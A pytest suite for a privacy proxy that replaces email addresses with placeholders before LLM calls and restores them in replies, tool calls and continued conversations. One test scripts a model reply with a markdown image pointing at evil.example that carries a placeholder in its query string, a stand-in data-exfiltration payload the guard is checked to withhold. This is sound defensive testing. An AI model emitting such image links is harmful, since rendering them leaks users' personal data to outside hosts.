"""Where originals come back to an application: named tools, no links, and how often the model used what it was sent."""

from __future__ import annotations

import json
import time
from typing import Any

import openai
import pytest
from starlette.applications import Starlette

import guard
from guard import Guard
from guard.simulator.script import ToolCall

MAIL = "alice@corp.com"


@pytest.fixture
def hinting(make_guard: Any, request: pytest.FixtureRequest) -> Guard:
    """Tells the model about placeholders; no tool gets originals but `send`."""
    guard: Guard = make_guard(
        make_guard.quiet.replace("[send, pay]", "[send], hint: true"), f"'{request.node.name}'"
    )
    return guard


def outcomes(guarded: Guard) -> list[dict[str, Any]]:
    """The attributes of the model calls on record, once there is one."""
    found: list[dict[str, Any]] = []
    for _ in range(1500):
        files = sorted(guarded.settings.exports.glob("*.jsonl"))
        rows = [json.loads(line) for file in files for line in file.read_bytes().split(b"\n")[:-1]]
        spans = [s for row in rows for s in row["resourceSpans"][0]["scopeSpans"][0]["spans"]]
        found = [s for s in spans if s["name"].startswith("chat")]
        if found:
            break
        time.sleep(0.02)
    return [{a["key"]: next(iter(a["value"].values())) for a in s["attributes"]} for s in found]


def test_a_tool_that_is_not_named_gets_placeholders(
    connect: Any, provider: Starlette, hinting: Guard
) -> None:
    """B24: of two calls the named one is restored, in chat and in Responses."""
    provider.state.script.tools = lambda body: [
        ToolCall("send", '{"to": "<EMAIL_1>"}'),
        ToolCall("fetch", '{"for": "<EMAIL_1>"}'),
    ]
    sdk = connect(hinting)
    calls = sdk.chat(f"Write to {MAIL}").choices[0].message.tool_calls
    assert [json.loads(c.function.arguments) for c in calls] == [{"to": MAIL}, {"for": "<EMAIL_1>"}]
    answer = sdk(lambda c: c.responses.create(model="m", input=f"Write to {MAIL}"))
    told = [json.loads(item.arguments) for item in answer.output if item.type == "function_call"]
    assert told == [{"to": MAIL}, {"for": "<EMAIL_1>"}]


@pytest.mark.parametrize("streamed", [False, True])
def test_the_restore_rate_is_on_the_span(
    connect: Any, provider: Starlette, hinting: Guard, streamed: bool
) -> None:
    """B30: sent, seen, put back, withheld from an image, and mangled, whole and streamed."""
    text = "<EMAIL_1> wrote; EMAIL_1 did. ![](https://evil.example/?q=<EMAIL_1>)"
    provider.state.script.reply = lambda body: text
    sdk = connect(hinting)
    ask = sdk.chat_stream if streamed else sdk.chat
    ask(f"Write to {MAIL} and to bob@corp.com")
    found = outcomes(hinting)[0]
    told = {
        k.removeprefix("guard."): int(v) for k, v in found.items() if "restored" in k or "placeholders" in k
    }
    assert told == {
        "restored": 1,
        "placeholders.sent": 2,
        "placeholders.seen": 1,
        "placeholders.withheld": 1,
        "placeholders.mangled": 1,
    }


def test_a_hint_goes_with_placeholders_only(connect: Any, provider: Starlette, hinting: Guard) -> None:
    """One line ahead of the messages or the instructions, where there is a placeholder to speak of."""
    sdk = connect(hinting)
    sdk.chat(f"Write to {MAIL}")
    sdk.chat("Write to nobody")
    sdk(lambda c: c.responses.create(model="m", input=MAIL, instructions="Be brief."))
    sdk(lambda c: c.responses.create(model="m", input=MAIL))
    first, plain, told, bare = [json.loads(row.body) for row in provider.state.received[-4:]]
    assert first["messages"][0]["role"] == "system"
    assert first["messages"][0]["content"].startswith("<EMAIL_1> and others like it stand for real values")
    assert first["messages"][1]["content"] == "Write to <EMAIL_1>"
    assert [m["role"] for m in plain["messages"]] == ["user"]
    assert told["instructions"].splitlines()[1:] == ["Be brief."]
    assert bare["instructions"].startswith("<EMAIL_1> and others")


# what a provider remembers


def respond(sdk: Any, text: str, **more: Any) -> Any:
    return sdk(lambda c: c.responses.create(model="m", input=text, **more))


def test_a_conversation_goes_on_from_an_answer(connect: Any, provider: Starlette, hinting: Guard) -> None:
    """B30: `previous_response_id`: the value of an earlier turn comes back, and a new one gets a new number."""
    sdk = connect(hinting)
    first = respond(sdk, f"Write to {MAIL}")
    provider.state.script.reply = lambda body: "<EMAIL_1>, <EMAIL_2>"
    second = respond(sdk, "And bob@corp.com", previous_response_id=first.id)
    assert json.loads(provider.state.received[-1].body)["input"] == "And <EMAIL_2>"
    assert second.output_text == f"{MAIL}, bob@corp.com"
    assert respond(sdk, "Again", previous_response_id=second.id).output_text == f"{MAIL}, bob@corp.com"
    branch = respond(sdk, "And eve@corp.com", previous_response_id=first.id)
    assert branch.output_text == f"{MAIL}, eve@corp.com"


def test_a_conversation_goes_on_from_a_stream(connect: Any, provider: Starlette, hinting: Guard) -> None:
    """B30: a streamed answer is remembered by its id as well."""
    sdk = connect(hinting)
    events = sdk.stream(lambda c: c.responses.create(model="m", input=f"Write to {MAIL}", stream=True))
    provider.state.script.reply = lambda body: "<EMAIL_1>"
    again = respond(sdk, "Who?", previous_response_id=events[0].response.id)
    assert again.output_text == MAIL


@pytest.mark.parametrize(
    "more",
    [{"previous_response_id": "resp_68"}, {"conversation": "conv_1"}, {"conversation": {"id": "conv_1"}}],
)
def test_what_is_not_known_is_refused(connect: Any, provider: Starlette, hinting: Guard, more: Any) -> None:
    """B30: `<EMAIL_1>` of a turn that guard has not seen could be anybody's; the message says what to do."""
    sdk = connect(hinting)
    with pytest.raises(openai.APIStatusError) as refused:
        respond(sdk, f"Write to {MAIL}", **more)
    assert (refused.value.status_code, refused.value.code) == (503, "guard.unavailable.store")
    assert "send the history" in str(refused.value)
    assert not provider.state.received


def test_nobody_goes_on_from_anothers_answer(connect: Any, provider: Starlette, hinting: Guard) -> None:
    """B30: the id alone gives nothing away."""
    sdk = connect(hinting)
    with guard.identity(tenant="acme", user="u1"):
        first = respond(sdk, f"Write to {MAIL}")
    with guard.identity(tenant="acme", user="u2"), pytest.raises(openai.APIStatusError):
        respond(sdk, "Who?", previous_response_id=first.id)
    with guard.identity(tenant="acme", user="u1"):
        assert respond(sdk, "Who?", previous_response_id=first.id)


@pytest.mark.parametrize(
    ("rules", "restored"),
    [
        ("input: {rules: {guard.unavailable.store: flag}}\n", "<EMAIL_1>"),
        ("input: {rules: {'pii.*': {action: redact, as: mask}, pii.us.bank_number: allow}}\n", "<EMAIL_1>"),
    ],
)
def test_where_it_passes_nothing_is_restored(
    connect: Any, provider: Starlette, make_guard: Any, rules: str, restored: str
) -> None:
    """Law 1: a rule may let it pass: then no number means anything; where nothing is numbered it passes as it is."""
    sdk = connect(make_guard(make_guard.quiet + rules))
    provider.state.script.reply = lambda body: "<EMAIL_1>"
    assert respond(sdk, f"Write to {MAIL}", previous_response_id="resp_68").output_text == restored
    events = sdk.stream(
        lambda c: c.responses.create(
            model="m", input=f"To {MAIL}", stream=True, previous_response_id="resp_68"
        )
    )
    assert events[-1].response.output[0].content[0].text == restored
